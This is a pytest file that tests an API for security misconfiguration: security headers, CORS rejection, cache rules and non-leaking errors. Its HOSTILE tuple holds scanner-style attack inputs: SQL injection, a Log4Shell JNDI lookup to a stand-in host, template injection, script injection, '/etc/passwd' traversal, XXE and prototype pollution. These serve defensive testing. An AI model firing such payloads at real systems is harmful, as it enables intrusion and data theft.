"""API8:2023 Security Misconfiguration: headers, methods, origins and errors, at every route."""

import re
from typing import Any, Final

import pytest

from tests.abuse.walking import expected
from tests.contract.routes import CALLERS, ROUTES, Route
from tests.contract.test_bad_input import API
from tests.contract.test_callers import prepared
from tests.helpers.client import V1
from tests.helpers.factories import Make

pytestmark = pytest.mark.usefixtures("short_streams")

ORIGIN: Final = "https://evil.example"
#: What answers of ours never say: what they are made with, and where.
INSIDE: Final = re.compile(
    r"Traceback|File \"|\.py\b|asyncpg|sqlalchemy|pydantic|uvicorn|gunicorn|starlette|fastapi|SELECT |INSERT "
    r"|site-packages|/usr/|0x[0-9a-f]{8}",
    re.IGNORECASE,
)
#: Names that would tell.
TELLING: Final = frozenset({"server", "x-powered-by", "via", "x-aspnet-version", "x-runtime"})


@pytest.mark.parametrize("route", ROUTES, ids=str)
async def test_every_answer_has_the_headers_that_browsers_and_caches_need(make: Make, route: Route) -> None:
    callers = {CALLERS[0], next((each for each in CALLERS if expected(route, each) < 300), CALLERS[0])}
    for caller in sorted(callers):
        client, request = await prepared(make, route, caller)
        answer = await client.request(**request, headers={"Origin": ORIGIN})
        headers = answer.headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert not [name for name in headers if name.startswith("access-control-")]
        assert TELLING.isdisjoint(headers)
        cache = headers.get("cache-control", "")
        if (
            caller != "anonymous"
            and "authorization" in answer.request.headers
            and route.template.startswith(V1)
        ):
            assert "public" not in cache
            assert cache in ("private, no-store", "no-store", "no-cache", "private, no-cache")
        if answer.is_error:
            assert cache in ("private, no-store", "no-store", "no-cache")


@pytest.mark.parametrize("route", ROUTES, ids=str)
async def test_no_page_of_another_origin_is_let_in(make: Make, route: Route) -> None:
    path = re.sub(r"\{\w+\}", "1", route.template)
    preflight = {"Origin": ORIGIN, "Access-Control-Request-Method": route.method}
    answer = await make.api.root(path, "OPTIONS", headers=preflight)
    assert answer.status_code in (400, 403, 405)
    assert not [name for name in answer.headers if name.startswith("access-control-allow")]


#: What scanners send, wherever something is parsed.
HOSTILE: Final[tuple[dict[str, Any], ...]] = (
    {"params": {"'": "' OR 1=1 --", "search": "${jndi:ldap://evil.example/a}{{7*7}}<script>"}},
    {"headers": {"If-None-Match": "'", "If-Match": "'", "X-Forwarded-For": "' OR 1=1 --"}},
    {"headers": {"Idempotency-Key": "é" * 10, "Accept": "../../etc/passwd", "X-Request-ID": "${7*7}"}},
    {
        "headers": {"Content-Type": "application/xml"},
        "content": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///">]>',
    },
    {"headers": {"Content-Type": "application/json"}, "content": b'{"__proto__": {"is_admin": true}}'},
)


@pytest.mark.parametrize("route", API, ids=str)
async def test_no_error_tells_about_the_inside(make: Make, route: Route) -> None:
    client, request = await prepared(make, route, "administrator")
    for hostile in HOSTILE:
        kept = {name: value for name, value in request.items() if name not in hostile}
        if "content" in hostile:
            kept = {name: value for name, value in kept.items() if name not in ("json", "data")}
        headers = {each: value.encode() for each, value in hostile.get("headers", {}).items()}
        answer = await client.request(**{**kept, **hostile, "headers": headers})
        assert answer.status_code < 500, answer.text
        if answer.is_error:
            assert INSIDE.search(answer.text) is None, answer.text
            assert "7*7" not in answer.text
            assert "evil.example" not in answer.text
